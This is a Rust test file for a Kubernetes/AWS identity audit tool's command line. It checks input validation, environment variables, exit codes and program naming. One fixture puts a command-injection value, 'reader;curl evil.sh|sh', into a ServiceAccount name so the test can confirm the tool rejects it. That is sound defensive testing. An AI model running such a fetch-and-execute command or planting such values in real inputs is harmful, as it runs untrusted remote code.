//! Bad input: exit 2 naming the flag or field, before any request reaches a cluster.

use crate::helpers::{Mode, audit, clean_cluster};

#[tokio::test]
async fn bad_input_exits_2_before_any_request() {
    let cluster = clean_cluster(Mode::Gsa).await;
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = cluster.kubeconfig(dir.path(), "stand-in");
    let bad_output = dir.path().join("bad.json");
    std::fs::write(
        &bad_output,
        r#"{"w":{"namespace":"n","ksa":"k","role_arn":"arn:aws:iam::1:role/x"}}"#,
    )
    .unwrap();
    // Names that go into fix commands: Kubernetes names or bad input, naming the workload.
    let bad_ksa = dir.path().join("bad-ksa.json");
    std::fs::write(
        &bad_ksa,
        r#"{"w":{"namespace":"payments","ksa":"reader;curl evil.sh|sh","role_arn":"arn:aws:iam::123456789012:role/x"}}"#,
    )
    .unwrap();
    let bad_namespace = dir.path().join("bad-namespace.json");
    std::fs::write(
        &bad_namespace,
        r#"{"w":{"namespace":"pay ments","ksa":"reader","role_arn":"arn:aws:iam::123456789012:role/x"}}"#,
    )
    .unwrap();
    let cases: [(&[&str], &str); 7] = [
        (
            &["--context", "nowhere"],
            "invalid --context: \"nowhere\" is not a context of the kubeconfig; it has: stand-in",
        ),
        (
            &["--terraform-output", bad_output.to_str().unwrap()],
            "invalid --terraform-output workloads.w.role_arn:",
        ),
        (
            &["--terraform-output", dir.path().to_str().unwrap()],
            "is not a regular file",
        ),
        (
            &["--terraform-output", bad_ksa.to_str().unwrap()],
            "invalid --terraform-output workloads.w.ksa: \"reader;curl evil.sh|sh\" is not a Kubernetes ServiceAccount name",
        ),
        (
            &["--terraform-output", bad_namespace.to_str().unwrap()],
            "invalid --terraform-output workloads.w.namespace: \"pay ments\" is not a Kubernetes namespace",
        ),
        (&["--namespace", "Payments"], "invalid --namespace"),
        (&["--pushgateway", "ftp://gw"], "invalid --pushgateway"),
    ];
    for (args, said) in cases {
        let run = audit(&kubeconfig, args).await;
        assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
        assert!(run.stderr.contains(said), "{args:?}: {}", run.stderr);
        assert!(run.stdout.is_empty());
    }
    assert_eq!(
        cluster.requests("/api/v1/pods"),
        0,
        "no request before the input is checked"
    );
}

/// Every variable of the audit, through the real binary: set but empty is unset (never clap's
/// `a value is required`), set is its flag. A new variable without a sample fails the test.
#[test]
fn every_variable_empty_is_unset_and_set_is_its_flag() {
    use clap::CommandFactory;
    const SAMPLES: &[(&str, &str)] = &[
        ("AUDIT_GCP_IAM_ENDPOINT", "http://127.0.0.1:1"),
        ("AUDIT_FORMAT", "json"),
        ("AUDIT_FAIL_ON", "error"),
        ("AUDIT_PUSHGATEWAY", "http://127.0.0.1:1"),
        ("AUDIT_CLUSTER_NAME", "prod-eu"),
        ("AUDIT_LOG_LEVEL", "info"),
    ];
    // --page-size 0 fails before any cluster is asked.
    let args = |_: &testkit::cli_env::Variable, mut flag_args: Vec<String>| {
        flag_args.extend(["--page-size", "0"].map(String::from));
        flag_args
    };
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_gke-aws-audit"));
    let checked = testkit::cli_env::check_every_variable(bin, &gke_aws_audit::cli::Cli::command(), SAMPLES, &[], args);
    assert_eq!(checked, SAMPLES.len());
}

/// `--help` prints the audit's own table, the one `main` exits by: 6 is findings, 1 unexpected.
#[test]
fn help_prints_the_audits_exit_codes() {
    use gke_aws_verifier::exit_table::Program;
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_gke-aws-audit"))
        .arg("--help")
        .output()
        .unwrap();
    let help = String::from_utf8(output.stdout).unwrap();
    let table = &help[help.find("Exit codes:").expect("a table")..];
    assert_eq!(table, Program::Audit.help());
    assert!(table.contains("  6  ") && table.contains("  1  unexpected"), "{table}");
}

/// Run as `gke-aws-verifier audit` (the verifier passes that as argv[0]), messages and usage name
/// that command; run directly, `gke-aws-audit`.
#[test]
fn messages_name_the_program_as_invoked() {
    use std::os::unix::process::CommandExt;
    let run = |arg0: Option<&str>| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_gke-aws-audit"));
        if let Some(arg0) = arg0 {
            command.arg0(arg0);
        }
        let output = command.args(["--page-size", "0"]).output().unwrap();
        assert_eq!(output.status.code(), Some(2));
        String::from_utf8(output.stderr).unwrap()
    };
    assert!(
        run(Some("gke-aws-verifier audit")).starts_with("gke-aws-verifier audit: invalid --page-size"),
        "{}",
        run(Some("gke-aws-verifier audit"))
    );
    assert!(
        run(None).starts_with("gke-aws-audit: invalid --page-size"),
        "{}",
        run(None)
    );
}
